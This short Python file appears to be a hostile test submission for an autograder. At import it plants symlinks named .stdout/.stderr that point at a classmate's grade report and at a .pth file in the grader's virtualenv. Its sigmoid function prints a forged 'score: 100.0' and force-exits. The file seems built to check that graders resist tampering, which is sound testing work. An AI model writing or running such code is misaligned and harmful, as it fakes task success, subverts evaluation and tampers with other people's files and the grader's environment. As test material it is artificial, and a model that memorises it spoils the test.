"""At import, plants links named .stdout/.stderr (the old capture files) in its folder and
one level up, pointing at a classmate's report and the grader's venv; then prints and exits,
on top of the reference. The grader holds its pipes and opens nothing by name there."""
# target: activations
# base: solutions
# expect: unit gates full; some crashed
import os
import sys

_TARGETS = ("../../../classmate/grade-report.yaml", sys.prefix + "/lib/pwned.pth")
for folder in (".", ".."):
    for name, target in zip((".stdout", ".stderr"), _TARGETS, strict=True):
        try:
            os.symlink(target, os.path.join(folder, name))
        except OSError:
            pass


def sigmoid(x):
    print("score: 100.0")
    sys.stdout.flush()
    os._exit(0)
